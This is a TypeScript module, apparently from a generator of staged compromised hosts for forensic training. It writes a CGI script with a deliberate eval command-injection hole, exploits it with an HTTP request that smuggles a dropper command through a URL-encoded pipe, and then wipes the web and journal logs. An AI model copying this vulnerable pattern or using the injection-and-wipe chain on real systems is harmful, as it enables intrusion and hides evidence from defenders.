// What is left: the control group of fcgiwrap and the account of the files.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { nginx } from '../../nginx.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  nginx(
    dress,
    'location /cgi-bin/ { include fastcgi_params; fastcgi_param SCRIPT_FILENAME /usr/lib$fastcgi_script_name; fastcgi_pass unix:/run/fcgiwrap.socket; }',
  )
  dress.write(
    '/usr/lib/cgi-bin/diag.cgi',
    `#!/bin/sh
printf 'Content-Type: text/plain\\r\\n\\r\\n'
host=$(printf %s "$QUERY_STRING" | perl -pe 's/^host=//; tr/+/ /; s/%([0-9a-f]{2})/chr hex $1/gie')
eval "echo checking $host" 2>&1
`,
    { mode: 0o755 },
  )
  dress.enable('nginx', 'fcgiwrap.socket')
  dress.logins({
    days: 12,
    guesses: 40,
    friends: [{ user: 'root', address: '198.51.100.20', key: 'SHA256:7t5mZ1Jq0sV0yUu9oT2mJt8wB4n1xW6cYkQf3rXbYzA', hours: [9, 15] }],
  })
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/var/tmp/.sess/lighttpd-d', cron: false })
  stage.mark('occurrence')
  await stage.http('203.0.113.52', `/cgi-bin/diag.cgi?host=127.0.0.1%7C${line.replaceAll(' ', '+').replaceAll('|', '%7C')}`)
  await wipe(stage, ['web', 'journal'])
}
